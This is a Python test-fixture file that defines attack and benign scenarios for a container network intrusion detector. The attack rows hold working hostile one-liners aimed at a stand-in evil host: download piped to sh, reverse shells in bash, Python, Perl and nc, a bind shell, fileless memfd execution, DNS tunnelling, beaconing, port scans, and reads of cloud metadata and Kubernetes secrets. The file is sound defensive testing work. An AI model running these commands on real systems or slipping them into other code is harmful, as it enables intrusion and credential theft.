# SPDX-License-Identifier: Apache-2.0
# ruff: noqa: E501 - a script is read as it is run
"""The table of scenarios. What is in ``expects`` must be told of an attack; of a benign one nothing may be.

To add one: an entry here. ``script`` is run by ``sh``: by the hole of a service (``via`` its language), as a
container's own program (``entry``), by somebody who executes into the pod of a service (``probe``), or as a
service of the host (``unit NAME``). ``knock`` is run outside meanwhile. ``slower`` is how much more time passes
between its events when they are judged, because nobody can wait for a beacon: the events are real, the hours
are not.
"""

from __future__ import annotations

from base64 import b64encode
from dataclasses import dataclass
from typing import Final

INSIDE, PEER, DNS = "10.77.0.10", "10.77.0.20", "10.77.0.53"
EVIL, METADATA, API = "203.0.113.66", "169.254.169.254", "10.96.0.1"
EVIL_NAME, MIRROR, PARTNER = "updates.evil-example.com", "mirror.example.org", "api.partner-example.com"
DATABASE = "db.shop.svc.cluster.local"
ZONE: Final = {
    EVIL_NAME: EVIL, MIRROR: "203.0.113.80", PARTNER: "203.0.113.81", DATABASE: PEER,
    **{f"edge{each}.cdn-example.com": "203.0.113.82" for each in range(40)},
}  # fmt: skip
WORLD: Final = (EVIL, "203.0.113.80", "203.0.113.81", "203.0.113.82", METADATA, API)
OUTSIDE_PORTS: Final = (22, 443, 3333, 8443, *range(4440, 4450), 5432, 9001)
PEER_PORTS: Final = (22, 5432, 6379, *range(9100, 9120))

RCE, REVERSE, BIND, DROPPED = "nsp.rce-egress", "nsp.reverse-shell", "nsp.bind-shell", "nsp.dropped-program"
UNRESOLVED, TUNNEL, BEACON = "nsp.unresolved-address", "nsp.dns-tunnel", "nsp.beacon"
SCAN, CLOUD, MINING = "nsp.port-scan", "nsp.metadata-service", "nsp.mining"
KUBERNETES, LATERAL = "nsp.kubernetes-api", "nsp.lateral-movement"


@dataclass(frozen=True, slots=True)
class Scenario:
    """One row; see the module."""

    name: str
    via: str
    script: str
    expects: tuple[str, ...] = ()
    needs: tuple[str, ...] = ()
    knock: str = ""
    slower: int = 1

    @property
    def is_attack(self) -> bool:
        """Whether something must be told."""
        return bool(self.expects)


_DUP = "import os,socket;s=socket.create_connection(('{0}',{1}));[os.dup2(s.fileno(),n) for n in (0,1,2)];"
_ACCEPT_PTY = (
    "import pty,socket,os,threading;l=socket.create_server(('0.0.0.0',5601));c,_=l.accept();"
    "p,f=pty.fork();\n"
    "if p==0: os.execv('/bin/bash',['bash','-i'])\n"
    "import select\n"
    "while True:\n"
    "  r,_,_=select.select([c,f],[],[],3)\n"
    "  if not r: break\n"
    "  d=os.read(f,999) if f in r else c.recv(999)\n"
    "  if not d: break\n"
    "  c.sendall(d) if f in r else os.write(f,d)"
)
_MEMFD = (
    "import os;f=os.memfd_create('k');os.write(f,open('/usr/bin/nc','rb').read());"
    f"os.execve(f,['k','-w1','{EVIL}','9001'],dict(os.environ))"
)
# The address is in no command line, as it would be in a program.
_HIDDEN = (
    "import base64,socket;"
    f"socket.create_connection((base64.b64decode('{b64encode(EVIL.encode()).decode()}').decode(),443)).close()"
)
_TUNNEL = (
    "import os,socket\n"
    "for n in range(170):\n"
    "  try: socket.gethostbyname(os.urandom(24).hex()+'.t.evil-example.com')\n"
    "  except OSError: pass"
)
_BEACON = (
    "import socket,time\n"
    "for n in range(110):\n"
    f"  s=socket.create_connection(('{EVIL_NAME}',8443)); s.sendall(b'alive'); s.recv(9); s.close()\n"
    "  time.sleep(0.05)"
)
_PAGES = (
    "import random,time,urllib.request\n"
    "for n in range(60):\n"
    f"  urllib.request.urlopen('http://{PARTNER}/').read(); time.sleep(random.expovariate(20))"
)
_SCRAPE = (
    "import socket\n"
    "for turn in range(4):\n"
    "  for port in [*range(9100,9120),9931,9932,9933,9934,9935,9936]:\n"
    "    try:\n"
    f"      s=socket.create_connection(('{PEER}',port),1); s.sendall(b'GET /metrics'); s.recv(99); s.close()\n"
    "    except OSError: pass"
)
_NAMES = (
    "import socket\nfor n in range(40): socket.create_connection((f'edge{n}.cdn-example.com',443)).close()"
)

ATTACKS: Final = (
    Scenario("download piped to a shell", "python", f"curl -s http://{EVIL_NAME}:8000/stage | sh", (RCE,), ("curl",)),
    Scenario("download by a Java service", "java", f"wget -q -O /dev/null http://{EVIL_NAME}/", (RCE,), ("wget",)),
    Scenario("download by a Node service", "node", f"curl -s http://{EVIL_NAME}/", (RCE,), ("curl",)),
    Scenario("download by a PHP service", "php", f"curl -s http://{EVIL_NAME}/", (RCE,), ("curl",)),
    Scenario("download by a Perl service", "perl", f"wget -q -O /dev/null http://{EVIL_NAME}/", (RCE,), ("wget",)),
    Scenario("a secret in a question", "python", "getent hosts root.t.evil-example.com", (RCE,)),
    Scenario(
        "reverse shell by bash", "python", f"bash -c 'bash -i >& /dev/tcp/{EVIL}/4440 0>&1'",
        (REVERSE, RCE), ("bash",),
    ),
    Scenario(
        "reverse shell by Python", "node",
        f'python3 -c "{_DUP.format(EVIL, 4441)}os.execl(\'/bin/sh\',\'sh\',\'-i\')"', (REVERSE, RCE),
    ),
    Scenario(
        "reverse shell by a pipe and nc", "python",
        f"rm -f /tmp/.f1; mkfifo /tmp/.f1; cat /tmp/.f1 | sh -i 2>&1 | nc {EVIL} 4442 > /tmp/.f1; rm -f /tmp/.f1",
        (REVERSE, RCE), ("nc",),
    ),
    Scenario(
        "reverse shell by Perl", "php",
        f"""perl -MSocket -e 'socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("{EVIL}")));"""
        """open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");'""",
        (REVERSE, RCE), ("perl",),
    ),
    Scenario(
        "reverse shell of a container's own program", "entry",
        f"bash -c 'bash -i >& /dev/tcp/{EVIL}/4445 0>&1'", (REVERSE,), ("bash",),
    ),
    Scenario(
        "bind shell with a terminal", "python", f'python3 -c "{_ACCEPT_PTY}"', (BIND,), ("bash",),
        knock="sleep 1.5; (sleep 0.3; echo id; sleep 0.5; echo exit) | nc -w2 {INSIDE} 5601",
    ),
    Scenario(
        "staged program", "python",
        f"wget -q -O /tmp/.s1 http://{EVIL_NAME}:8000/program; chmod +x /tmp/.s1; "
        f"echo x | /tmp/.s1 -w1 {EVIL} 9001; rm -f /tmp/.s1",
        (DROPPED, RCE), ("wget", "nc"),
    ),
    Scenario("program from memory", "entry", f'python3 -c "{_MEMFD}"', (DROPPED,), ("nc",)),
    Scenario(
        "program from /dev/shm", "entry",
        f"cp /usr/bin/nc /dev/shm/.k1; echo x | /dev/shm/.k1 -w1 {EVIL} 9001; rm -f /dev/shm/.k1",
        (DROPPED,), ("nc",),
    ),
    Scenario(
        "an address from nowhere", "python", f'python3 -c "{_HIDDEN}"', (UNRESOLVED, RCE),
    ),
    Scenario("tunnel through DNS", "entry", f'python3 -c "{_TUNNEL}"', (TUNNEL,)),
    Scenario("beacon", "entry", f'exec python3 -c "{_BEACON}"', (BEACON,), slower=1200),
    Scenario(
        "port scan", "python", f"for p in $(seq 1 40); do nc -z -w1 {PEER} $p; done", (SCAN, RCE), ("nc",)
    ),
    Scenario(
        "credentials of the machine", "python", f"curl -s -m2 http://{METADATA}/latest/meta-data/",
        (CLOUD, RCE), ("curl",),
    ),
    Scenario(
        "miner", "entry",
        f'exec python3 -c "import socket;socket.create_connection((\'{EVIL}\',3333)).close()" '
        f"-o stratum+tcp://{EVIL_NAME}:3333",
        (MINING,),
    ),
    Scenario(
        "the pod's account", "python", f"curl -sk -m2 https://{API}/api/v1/secrets", (KUBERNETES, RCE), ("curl",)
    ),
    Scenario("on to the next pod", "python", f"echo x | nc -w1 {PEER} 22", (LATERAL, RCE), ("nc",)),
)  # fmt: skip

BENIGN: Final = (
    Scenario(
        "packages are downloaded", "unit apt-daily.service",
        f"for p in a b c d e f; do wget -q -O /dev/null http://{MIRROR}/pool/$p.deb; done; dpkg --version",
        needs=("wget",),
    ),
    Scenario(
        "scripts of packages", "unit apt-daily-upgrade.service",
        "for s in preinst postinst; do sh -c 'date >/dev/null; getent passwd root >/dev/null; true'; done; "
        f"perl -e 'print 1' >/dev/null; curl -s http://{MIRROR}/key >/dev/null",
        needs=("curl", "perl"),
    ),
    Scenario("cron with curl", "unit cron.service", f"for n in 1 2 3; do curl -fsS http://{PARTNER}/ping; done", needs=("curl",)),
    Scenario("git over ssh", "entry", f"git ls-remote ssh://git@{MIRROR}/repo.git; true", needs=("git", "ssh")),
    Scenario(
        "build", "entry",
        "d=$(mktemp -d /var/lib/nsp-build-XXXXXX); cd $d; printf 'int main(){return 0;}' > a.c; "
        f"printf 'all: a dep\\n\\t./a\\na: a.c\\n\\tcc -o a a.c\\ndep:\\n\\twget -q -O dep http://{MIRROR}/d.tgz\\n' > Makefile; "
        "make -s; rm -rf $d",
        needs=("make", "cc", "wget"),
    ),
    Scenario("health probe", "probe", "for n in 1 2 3 4; do wget -q -O /dev/null http://127.0.0.1:{PORT}/; done", needs=("wget",)),
    Scenario("probe of a shell", "probe", "sh -c 'test -e /proc/1 && curl -fs http://localhost:{PORT}/ >/dev/null'", needs=("curl",)),
    Scenario("scrapes, some targets down", "entry", f'exec python3 -c "{_SCRAPE}"'),
    Scenario("many threads of a JVM", "java work", f"n=40&u={DATABASE}:5432"),
    Scenario("a page that starts a shell", "python report", ""),
    Scenario("a service that fetches by itself", "python fetch", f"http://{PARTNER}/"),
    Scenario("a partner called as customers come", "entry", f'exec python3 -c "{_PAGES}"', slower=900),
    Scenario("many names of one network of caches", "entry", f'exec python3 -c "{_NAMES}"'),
    Scenario(
        "backup", "unit backup.service",
        f"d=$(mktemp -d); cp -r /etc/apt $d/; rsync -a $d/apt/ $d/copy/; curl -s -T /etc/hostname http://{PARTNER}/backup; rm -rf $d",
        needs=("rsync", "curl"),
    ),
    Scenario("somebody administers the pod", "probe", "ls / >/dev/null; ps >/dev/null 2>&1; cat /etc/hostname >/dev/null; true"),
    Scenario("a client that waits for its database", "entry", f"for n in 1 2 3 4 5 6; do nc -z -w1 {DATABASE} 7432; sleep 0.1; done; nc -z {DATABASE} 5432", needs=("nc",)),
)  # fmt: skip

SCENARIOS: Final = ATTACKS + BENIGN
